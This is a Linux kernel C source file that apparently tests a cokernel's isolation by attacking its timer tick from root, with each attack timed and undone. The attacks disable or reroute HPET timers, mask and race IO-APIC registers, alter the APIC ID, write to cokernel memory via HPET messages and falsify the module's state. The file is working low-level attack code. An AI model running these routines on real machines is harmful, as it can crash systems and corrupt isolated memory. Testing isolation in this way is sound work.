// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on a cokernel's tick: its timer, the path of the timer's interrupt,
 * and kyozon.ko's state. Each lasts for some time and is then undone.
 */
#include <linux/delay.h>
#include <linux/hrtimer.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/kthread.h>
#include <linux/sched.h>
#include <linux/stop_machine.h>
#include <linux/string.h>
#include <linux/version.h>
#include <asm/apic.h>
#include <asm/apicdef.h>
#include <asm/hpet.h>
#include <asm/io_apic.h>
#include <asm/msr.h>
#include <asm/tsc.h>

#include "root.h"
#include "vmm.h"

#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 15, 0)
#define del_timer_sync	timer_delete_sync
#endif

/* Stops the timer of Linux that would revive a lost tick. */
static void stop_revival(struct kyozon *k)
{
	del_timer_sync(&k->tick.revive);
}

void root_wait(unsigned int ms, void (*again)(struct kyozon *k), struct kyozon *k)
{
	u64 end = rdtsc() + (u64)ms * tsc_khz;

	while ((s64)(rdtsc() - end) < 0) {
		if (again)
			again(k);
		udelay(100);
		cond_resched();
	}
}

#define TICK_TIMER	2

static u8 __iomem *hpet;
static u32 hpet_timers, saved[32], saved_route[32];

static u32 hpet_get(u32 offset)
{
	return readl(hpet + offset);
}

static void hpet_set(u32 offset, u32 value)
{
	writel(value, hpet + offset);
}

static void stop_counter(struct kyozon *k)
{
	hpet_set(HPET_CFG, hpet_get(HPET_CFG) & ~HPET_CFG_ENABLE);
}

static void start_counter(struct kyozon *k)
{
	hpet_set(HPET_CFG, hpet_get(HPET_CFG) | HPET_CFG_ENABLE);
}

static void disable_timers(struct kyozon *k)
{
	u32 n;

	for (n = TICK_TIMER; n < hpet_timers; n++)
		hpet_set(HPET_Tn_CFG(n), saved[n] & ~HPET_TN_ENABLE);
}

static void enable_timers(struct kyozon *k)
{
	u32 n;

	for (n = TICK_TIMER; n < hpet_timers; n++)
		hpet_set(HPET_Tn_CFG(n), saved[n]);
}

static void far_comparators(struct kyozon *k)
{
	u32 n;

	for (n = TICK_TIMER; n < hpet_timers; n++)
		hpet_set(HPET_Tn_CMP(n), hpet_get(HPET_COUNTER) + 0x7fffffff);
}

static void away_routes(struct kyozon *k)
{
	u32 n;

	/* To the ID of no APIC. */
	for (n = TICK_TIMER; n < hpet_timers; n++)
		hpet_set(HPET_Tn_ROUTE(n) + 4, 0xfeefe000);
}

static void restore_routes(struct kyozon *k)
{
	u32 n;

	for (n = TICK_TIMER; n < hpet_timers; n++)
		hpet_set(HPET_Tn_ROUTE(n) + 4, saved_route[n]);
}

/* Changes the mask of every NMI pin of the IO-APIC at GSI 0. */
static void set_pins(u32 from, u32 to)
{
	u8 __iomem *ioapic = ioremap(IO_APIC_DEFAULT_PHYS_BASE, PAGE_SIZE);
	u32 index, pin, pins, low;

	if (!ioapic)
		return;
	index = readl(ioapic);
	writel(1, ioapic);
	pins = (readl(ioapic + 0x10) >> 16 & 0xff) + 1;
	for (pin = 0; pin < pins; pin++) {
		writel(0x10 + 2 * pin, ioapic);
		low = readl(ioapic + 0x10);
		if ((low & (7 << 8 | BIT(16))) == (4 << 8 | from))
			writel((low & ~BIT(16)) | to, ioapic + 0x10);
	}
	writel(index, ioapic);
	iounmap(ioapic);
}

static int mask_stopped(void *unused)
{
	set_pins(0, BIT(16));
	return 0;
}

static int unmask_stopped(void *unused)
{
	set_pins(BIT(16), 0);
	return 0;
}

static void mask_pins(struct kyozon *k)
{
	stop_machine(mask_stopped, NULL, NULL);
}

static void unmask_pins(struct kyozon *k)
{
	stop_machine(unmask_stopped, NULL, NULL);
}

#define IOAPIC_VERSION	1
#define MASKED_NMI	(BIT(16) | 4 << 8)

static struct {
	u8 __iomem *ioapic;
	u32 pin;
	struct task_struct *writer;
} race;

static int find_pin_stopped(void *unused)
{
	u32 index = readl(race.ioapic), pin;

	for (pin = 0; pin < 24; pin++) {
		writel(0x10 + 2 * pin, race.ioapic);
		if ((readl(race.ioapic + 0x10) & MASKED_NMI) == 4 << 8)
			race.pin = pin;
	}
	writel(index, race.ioapic);
	return 0;
}

/* Masks whichever register is selected. */
static int write_window(void *unused)
{
	while (!kthread_should_stop()) {
		writel(MASKED_NMI, race.ioapic + 0x10);
		cond_resched();
	}
	return 0;
}

/* One CPU writes to the window all the time. */
static void start_race(struct kyozon *k)
{
	race.ioapic = ioremap(IO_APIC_DEFAULT_PHYS_BASE, PAGE_SIZE);
	if (!race.ioapic)
		return;
	stop_machine(find_pin_stopped, NULL, NULL);
	writel(IOAPIC_VERSION, race.ioapic);
	race.writer = kthread_run_on_cpu(write_window, NULL, k->cpu, "writer");
}

/*
 * Another CPU selects the tick's pin, or a register that cannot be written.
 */
static void select_pin(struct kyozon *k)
{
	unsigned int turn;

	if (!race.ioapic)
		return;
	for (turn = 0; turn < 50; turn++) {
		writel(0x10 + 2 * race.pin, race.ioapic);
		writel(IOAPIC_VERSION, race.ioapic);
	}
}

static void stop_race(struct kyozon *k)
{
	if (!race.ioapic)
		return;
	if (!IS_ERR(race.writer))
		kthread_stop(race.writer);
	iounmap(race.ioapic);
	unmask_pins(k);
}

/* Bits of the timer's registers that are reserved, and 0. */
static void touch(void)
{
	hpet_set(HPET_CFG + 4, 0);
}

static void touch_often(struct kyozon *k)
{
	unsigned int turn;

	for (turn = 0; turn < 100; turn++)
		touch();
}

#define TOUCH_NS	500000

static enum hrtimer_restart touch_in_interrupt(struct hrtimer *timer)
{
	touch();
	hrtimer_forward_now(timer, ns_to_ktime(TOUCH_NS));
	return HRTIMER_RESTART;
}

static struct hrtimer interrupter;

/* An interrupt's handler writes to the timer, too. */
static void start_interrupter(struct kyozon *k)
{
	hrtimer_init(&interrupter, CLOCK_MONOTONIC, HRTIMER_MODE_REL_PINNED);
	interrupter.function = touch_in_interrupt;
	hrtimer_start(&interrupter, ns_to_ktime(TOUCH_NS), HRTIMER_MODE_REL_PINNED);
}

static void stop_interrupter(struct kyozon *k)
{
	hrtimer_cancel(&interrupter);
}

static struct task_struct *changer;

static int change_apic_id(void *unused)
{
	u32 id = native_apic_mem_read(APIC_ID);

	native_apic_mem_write(APIC_ID, 0x3f << 24);
	while (!kthread_should_stop())
		msleep(1);
	native_apic_mem_write(APIC_ID, id);
	return 0;
}

static void start_changer(struct kyozon *k)
{
	changer = kthread_run_on_cpu(change_apic_id, NULL, k->cpu, "changer");
}

static void stop_changer(struct kyozon *k)
{
	if (!IS_ERR(changer))
		kthread_stop(changer);
}

/* Timer 1, which is Linux's, sends its message to memory. A busy host's emulator is late with it. */
static void send_message(phys_addr_t to, unsigned int wait_us)
{
	hpet_set(HPET_Tn_ROUTE(1), 0x4b595a4f);
	hpet_set(HPET_Tn_ROUTE(1) + 4, lower_32_bits(to));
	hpet_set(HPET_Tn_CMP(1), hpet_get(HPET_COUNTER) +
		 (u32)(20000000000ull / hpet_get(HPET_PERIOD)));
	hpet_set(HPET_Tn_CFG(1), HPET_TN_FSB | HPET_TN_ENABLE | HPET_TN_32BIT);
	usleep_range(wait_us, wait_us + 100);
	hpet_set(HPET_Tn_CFG(1), 0);
}

/* To a word of the cokernel's memory if it is known, else to every page. */
int root_hpet(struct kyozon *k, char *unused)
{
	unsigned long *physical = (void *)symbol("hpet_address");
	phys_addr_t known = root_known_victim();
	u32 config, route, piece, page, n;

	hpet = physical && *physical ? ioremap(*physical, PAGE_SIZE) : NULL;
	if (!hpet)
		return -ENODEV;
	config = hpet_get(HPET_Tn_CFG(1));
	route = hpet_get(HPET_Tn_ROUTE(1) + 4);
	hpet_set(HPET_Tn_CFG(1), 0);
	for (n = 0; known && n < 10; n++)
		send_message(known, 50000);
	for (piece = 0; !known && piece < k->reserve.count; piece++)
		for (page = 0; page < 1u << k->reserve.pieces[piece].order; page++)
			send_message(page_to_phys(k->reserve.pieces[piece].page + page), 200);
	hpet_set(HPET_Tn_ROUTE(1) + 4, route);
	hpet_set(HPET_Tn_CFG(1), config);
	iounmap(hpet);
	root_report("hpet to %pa", &known);
	return 0;
}

/* Called once, then repeatedly while the attack lasts, and to undo it. */
static const struct {
	const char *name;
	void (*once)(struct kyozon *k);
	void (*again)(struct kyozon *k);
	void (*back)(struct kyozon *k);
} timer_attacks[] = {
	{ "counter", NULL, stop_counter, start_counter },
	{ "enable", NULL, disable_timers, enable_timers },
	{ "comparator", NULL, far_comparators, NULL },
	{ "route", NULL, away_routes, restore_routes },
	{ "pin", mask_pins, NULL, unmask_pins },
	{ "race", start_race, select_pin, stop_race },
	{ "apic-id", start_changer, NULL, stop_changer },
	{ "touch", start_interrupter, touch_often, stop_interrupter },
};

int root_timer(struct kyozon *k, char *argument)
{
	const char *how = strsep(&argument, " ");
	unsigned long *physical = (void *)symbol("hpet_address");
	unsigned int ms;
	size_t i;
	u32 n;

	if (!argument || kstrtouint(argument, 0, &ms) || ms > HOLD_MAX_MS)
		return -EINVAL;
	for (i = 0; i < ARRAY_SIZE(timer_attacks); i++)
		if (!strcmp(timer_attacks[i].name, how))
			break;
	if (i == ARRAY_SIZE(timer_attacks))
		return -EINVAL;
	hpet = physical && *physical ? ioremap(*physical, PAGE_SIZE) : NULL;
	if (!hpet)
		return -ENODEV;
	hpet_timers = ((hpet_get(HPET_ID) & HPET_ID_NUMBER) >> HPET_ID_NUMBER_SHIFT) + 1;
	for (n = TICK_TIMER; n < hpet_timers; n++) {
		saved[n] = hpet_get(HPET_Tn_CFG(n));
		saved_route[n] = hpet_get(HPET_Tn_ROUTE(n) + 4);
	}
	stop_revival(k);
	if (timer_attacks[i].once)
		timer_attacks[i].once(k);
	root_wait(ms, timer_attacks[i].again, k);
	if (timer_attacks[i].back)
		timer_attacks[i].back(k);
	/* After a missed comparator value no tick comes: set one in 10 ms. */
	hpet_set(HPET_Tn_CMP(TICK_TIMER), hpet_get(HPET_COUNTER) +
		 (u32)(10000000000000ull / hpet_get(HPET_PERIOD)));
	iounmap(hpet);
	root_report("timer %s for %u ms", how, ms);
	return 0;
}

/* Everything by which kyozon.ko knows that a cokernel runs. */
static void set_disarmed(struct kyozon *k)
{
	struct kyozon_vmm *vmm = (void *)symbol("kyozon_vmm");

	WRITE_ONCE(k->armed, false);
	WRITE_ONCE(k->state, KYOZON_STATE_EMPTY);
	if (vmm) {
		WRITE_ONCE(vmm->launched, false);
		WRITE_ONCE(vmm->watched, false);
	}
}

int root_disarm(struct kyozon *k, char *argument)
{
	struct kyozon_vmm *vmm = (void *)symbol("kyozon_vmm"), saved = {};
	u32 state = READ_ONCE(k->state);
	unsigned int ms;

	if (kstrtouint(argument, 0, &ms) || ms > HOLD_MAX_MS)
		return -EINVAL;
	if (vmm)
		saved = *vmm;
	stop_revival(k);
	set_disarmed(k);
	root_wait(ms, NULL, k);
	if (vmm) {
		WRITE_ONCE(vmm->launched, saved.launched);
		WRITE_ONCE(vmm->watched, saved.watched);
	}
	WRITE_ONCE(k->state, state);
	WRITE_ONCE(k->armed, true);
	root_report("disarm for %u ms", ms);
	return 0;
}

int root_hold(struct kyozon *k, char *argument)
{
	unsigned int ms;

	if (kstrtouint(argument, 0, &ms) || ms > HOLD_MAX_MS)
		return -EINVAL;
	root_report("hold for %u ms", ms);
	root_wait(ms, NULL, k);
	return 0;
}
